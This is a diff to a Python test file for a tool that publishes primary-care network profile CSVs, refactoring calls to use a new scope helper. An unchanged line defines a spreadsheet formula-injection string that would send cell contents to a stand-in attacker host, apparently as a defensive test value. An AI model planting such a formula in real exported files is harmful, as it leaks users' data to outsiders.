@@ -10,6 +10,7 @@ import pytest
 from geo.editions import EDITIONS
 from targeting.cli import main
 from targeting.publish import profiles_csv, suppress_profiles, table_csv
+from targeting.scope import make_scope
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
@@ -34,7 +35,7 @@ def test_an_icbs_pcns_through_the_publish_path_are_the_bytes_the_cli_prints(caps
     from targeting.precompute import finished_profiles
 
     printed = _printed(capsys, ["pcns", "--icb", "QWO"])
-    table = finished_profiles(atlas, "pcns", imd=2025, icb="QWO")
+    table = finished_profiles(make_scope(atlas, kind="icb", code="QWO"), "pcns")
     assert profiles_csv(table, EDITIONS[2025], month=atlas.month) == printed
     df = pd.read_csv(io.StringIO(printed))
     assert len(df) > 30 and df["source"].str.contains("OGL v3").all()
@@ -47,7 +48,7 @@ def test_a_users_list_is_suppressed_on_the_publish_path_as_the_cli_prints_it(cap
     f = tmp_path / "sites.csv"
     _, rules = _bradford_list(atlas, f)
     printed = _printed(capsys, ["pcns", "--icb", "QWO", "--plus-lsoas", str(f), "--no-gaps"])
-    table = finished_profiles(atlas, "pcns", imd=2025, icb="QWO", plus_rules=rules, gaps=False)
+    table = finished_profiles(make_scope(atlas, kind="icb", code="QWO", plus_rules=rules), "pcns", gaps=False)
     assert profiles_csv(table, EDITIONS[2025], rules, month=atlas.month) == printed
     df = pd.read_csv(io.StringIO(printed), dtype=str)
     hidden = df["plus_patients"] == "*"  # 1 to 7 patients of a PCN live in the three LSOAs
